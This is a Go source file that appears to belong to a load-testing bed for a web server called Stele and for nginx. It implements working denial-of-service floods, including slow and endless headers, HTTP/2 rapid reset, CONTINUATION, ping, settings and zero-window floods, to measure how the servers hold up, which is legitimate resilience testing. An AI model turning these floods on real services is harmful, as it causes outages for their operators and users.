//go:build linux

package main

import (
	"bufio"
	"bytes"
	"context"
	"crypto/tls"
	"fmt"
	"io"
	"log"
	"math/rand/v2"
	"net"
	"net/http"
	"sync"
	"sync/atomic"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// flood is an attack: what each of some clients does on a connection of its own, until it ends.
type flood struct {
	name, sent string
	secure     bool // over HTTP/2
	clients    int
	full       bool // whether the server may have half of them only
	do         func(ctx context.Context, c *attackConn)
}

var allFloods = []flood{
	{"wrong addresses", "requests", false, 16, false, wrongAddresses},
	{"silent connections", "connections", false, 5000, false, silent},
	{"silent connections, every connection taken", "connections", false, 4000, true, silent},
	{"slow heads", "bytes", false, 2000, false, slowHeads},
	{"answers that nobody reads", "requests", false, 500, false, unread},
	{"heads without end", "heads", false, 16, false, endlessHeads},
	{"windows of zero", "requests", true, 100, false, zeroWindows},
	{"rapid reset", "requests", true, 8, false, rapidReset},
	{"CONTINUATION", "frames", true, 50, false, continuations},
	{"pings", "pings", true, 8, false, pings},
	{"settings", "settings", true, 8, false, settingsFlood},
	{"many streams", "requests", true, 8, false, manyStreams},
	{"handshakes", "handshakes", true, 8, false, handshakes},
}

func plainFloods(ctx context.Context, p *testbed, s settings, r *section) error {
	return floods(ctx, p, s, r, false)
}

func secureFloods(ctx context.Context, p *testbed, s settings, r *section) error {
	return floods(ctx, p, s, r, true)
}

// floods runs the attacks on Stele and on nginx.
func floods(ctx context.Context, p *testbed, s settings, r *section, secure bool) error {
	if s.nginx && p.nginx == "" {
		r.Notes = append(r.Notes, "nginx is not there, so the floods have no peer.")
	}
	r.Each = s.flood
	for _, f := range allFloods {
		if f.secure != secure {
			continue
		}
		log.Printf("  %s", f.name)
		row := flooded{Attack: f.name, Sent: f.sent}
		stele, err := p.serve(ctx, f.secure, f.connections(), p.zips[0])
		if err != nil {
			return err
		}
		row.Stele, err = measure(ctx, stele, p, f.name, s.flood)
		if !stele.runs() {
			r.Trials = append(r.Trials, trial{What: f.name, Wrong: []string{"the server ended: " + stele.says.String()}})
		}
		stele.stop()
		if err != nil {
			return fmt.Errorf("%s: %w", f.name, err)
		}
		if s.nginx && p.nginx != "" {
			nginx, err := p.serveNginx(ctx, f.secure, f.connections())
			if err != nil {
				return err
			}
			row.Nginx, err = measure(ctx, nginx, p, f.name, s.flood)
			nginx.stop()
			if err != nil {
				return fmt.Errorf("%s: %w", f.name, err)
			}
		}
		r.Floods = append(r.Floods, row)
	}
	return nil
}

// connections is how many a server may have.
func (f *flood) connections() int {
	if f.full {
		return f.clients / 2
	}
	return manyConnections
}

// attackConn is a connection of an attacker.
type attackConn struct {
	net.Conn
	*http2.Framer
	sent *atomic.Int64
	head []byte // a request, as a block of fields
}

// beAttacker runs an attack, and says how often it did what.
func beAttacker(ctx context.Context, name, address string, last time.Duration) (int64, error) {
	for _, f := range allFloods {
		if f.name == name {
			var sent atomic.Int64
			ctx, stop := context.WithCancel(ctx)
			defer stop()
			go func() { // the time begins with what is sent first, however busy the machine
				for begun := time.Now(); sent.Load() == 0 && time.Since(begun) < time.Minute; {
					time.Sleep(time.Millisecond)
				}
				time.Sleep(last)
				stop()
			}()
			f.run(ctx, address, &sent)
			return sent.Load(), nil
		}
	}
	return 0, fmt.Errorf("there is no attack %q", name)
}

func (f *flood) run(ctx context.Context, address string, sent *atomic.Int64) {
	var group sync.WaitGroup
	for range f.clients {
		group.Go(func() {
			for ctx.Err() == nil {
				conn, err := f.connect(ctx, address, sent)
				if err != nil {
					time.Sleep(50 * time.Millisecond) // there is no room for it
					continue
				}
				stop := context.AfterFunc(ctx, func() { conn.Close() })
				f.do(ctx, conn)
				stop()
				conn.Close()
			}
		})
	}
	group.Wait()
}

func (f *flood) connect(ctx context.Context, address string, sent *atomic.Int64) (*attackConn, error) {
	var dialer net.Dialer
	ctx, cancel := context.WithTimeout(ctx, 5*time.Second)
	defer cancel()
	conn, err := dialer.DialContext(ctx, "tcp", address)
	if err != nil || !f.secure {
		return &attackConn{Conn: conn, sent: sent}, err
	}
	secure := tls.Client(conn, &tls.Config{InsecureSkipVerify: true, NextProtos: []string{"h2"}})
	if err := secure.HandshakeContext(ctx); err != nil {
		conn.Close()
		return nil, err
	}
	c := &attackConn{Conn: secure, Framer: http2.NewFramer(secure, secure), sent: sent}
	c.AllowIllegalWrites = true
	var block bytes.Buffer
	encoder := hpack.NewEncoder(&block)
	for _, field := range [][2]string{{":method", "GET"}, {":scheme", "https"}, {":authority", "localhost"}, {":path", "/"}} {
		encoder.WriteField(hpack.HeaderField{Name: field[0], Value: field[1]})
	}
	c.head = block.Bytes()
	_, err = io.WriteString(secure, http2.ClientPreface)
	return c, err
}

// begin sends settings and throws away what comes.
func (c *attackConn) begin(settings ...http2.Setting) {
	c.WriteSettings(settings...)
	go io.Copy(io.Discard, c.Conn)
}

// request asks for the first page on a stream. It reports whether the connection is there.
func (c *attackConn) request(stream uint32, ends bool) bool {
	return c.WriteHeaders(http2.HeadersFrameParam{
		StreamID: stream, BlockFragment: c.head, EndStream: ends,
		EndHeaders: true,
	}) == nil
}

func wrongAddresses(ctx context.Context, c *attackConn) {
	in := bufio.NewReader(c)
	id := make([]byte, 200)
	for ctx.Err() == nil {
		for i := range id {
			id[i] = "abcdefghijklmnopqrstuvwxyz0123456789"[rand.IntN(36)]
		}
		if _, err := fmt.Fprintf(c, "GET /api/v1/signals/sig-%s.json HTTP/1.1\r\nHost: a\r\n\r\n", id); err != nil {
			return
		}
		answer, err := http.ReadResponse(in, nil)
		if err != nil {
			return
		}
		io.Copy(io.Discard, answer.Body) // if it fails, so does the next
		c.sent.Add(1)
	}
}

func silent(ctx context.Context, c *attackConn) {
	c.sent.Add(1)
	io.Copy(io.Discard, c) // until the server has had enough
}

func slowHeads(ctx context.Context, c *attackConn) {
	const head = "GET / HTTP/1.1\r\nHost: a\r\nX-Slow: "
	for i := 0; ctx.Err() == nil; i++ {
		at := min(i, len(head)-1)
		if _, err := io.WriteString(c, head[at:at+1]); err != nil {
			return
		}
		c.sent.Add(1)
		time.Sleep(200 * time.Millisecond)
	}
}

func unread(ctx context.Context, c *attackConn) {
	for range 100 {
		if _, err := io.WriteString(c, "GET / HTTP/1.1\r\nHost: a\r\n\r\n"); err != nil {
			return
		}
		c.sent.Add(1)
	}
	<-ctx.Done()
}

func endlessHeads(ctx context.Context, c *attackConn) {
	line := bytes.Repeat([]byte("X-A: 1\r\n"), 1000)
	io.WriteString(c, "GET / HTTP/1.1\r\nHost: a\r\n")
	for ctx.Err() == nil {
		if _, err := c.Conn.Write(line); err != nil {
			c.sent.Add(1)
			return
		}
	}
}

func zeroWindows(ctx context.Context, c *attackConn) {
	c.begin(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0})
	for stream := uint32(1); stream < 500; stream += 2 {
		if !c.request(stream, true) {
			return
		}
		c.sent.Add(1)
	}
	for ctx.Err() == nil && c.WritePing(false, [8]byte{}) == nil {
		time.Sleep(time.Second)
	}
}

func rapidReset(ctx context.Context, c *attackConn) {
	c.begin()
	for stream := uint32(1); ctx.Err() == nil && stream < 1<<30; stream += 2 {
		if !c.request(stream, true) || c.WriteRSTStream(stream, http2.ErrCodeCancel) != nil {
			return
		}
		c.sent.Add(1)
	}
}

func continuations(ctx context.Context, c *attackConn) {
	c.begin()
	if c.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: c.head}) != nil {
		return
	}
	// fields that are not indexed, of sixteen kilobytes each
	field := append([]byte{0, 1, 'x', 0x7f, 0x81, 0x7d}, bytes.Repeat([]byte{'a'}, 16000)...)
	for ctx.Err() == nil && c.WriteContinuation(1, false, field) == nil {
		c.sent.Add(1)
	}
}

func pings(ctx context.Context, c *attackConn) {
	c.begin()
	for ctx.Err() == nil && c.WritePing(false, [8]byte{}) == nil {
		c.sent.Add(1)
	}
}

func settingsFlood(ctx context.Context, c *attackConn) {
	c.begin()
	for i := uint32(0); ctx.Err() == nil && c.WriteSettings(http2.Setting{
		ID:  http2.SettingHeaderTableSize,
		Val: i % 4096,
	}) == nil; i++ {
		c.sent.Add(1)
	}
}

func manyStreams(ctx context.Context, c *attackConn) {
	c.begin()
	for stream := uint32(1); ctx.Err() == nil && stream < 1<<30 && c.request(stream, false); stream += 2 {
		c.sent.Add(1)
	}
}

func handshakes(_ context.Context, c *attackConn) { c.sent.Add(1) }
